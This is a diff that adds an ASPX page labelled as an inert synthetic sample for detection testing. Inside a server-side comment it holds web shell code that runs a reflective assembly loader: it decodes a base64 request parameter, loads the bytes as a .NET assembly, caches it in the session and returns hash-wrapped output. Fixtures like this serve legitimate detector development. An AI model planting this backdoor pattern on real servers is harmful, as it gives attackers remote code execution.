@@ -1,0 +1,3 @@
+<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
+<%@ Page Language="C#"%><% string k = "0123456789abcdef", pw = "p"; string h = BitConverter.ToString(new MD5CryptoServiceProvider().ComputeHash(Encoding.Default.GetBytes(pw + k))).Replace("-", ""); byte[] d = Decode(Convert.FromBase64String(Context.Request[pw])); if (Context.Session["st"] == null) { Context.Session["st"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); } else { object o = ((Assembly)Context.Session["st"]).CreateInstance("M"); Response.Write(h.Substring(0, 16)); Response.Write(Reply(o)); Response.Write(h.Substring(16)); } %>
+--%>
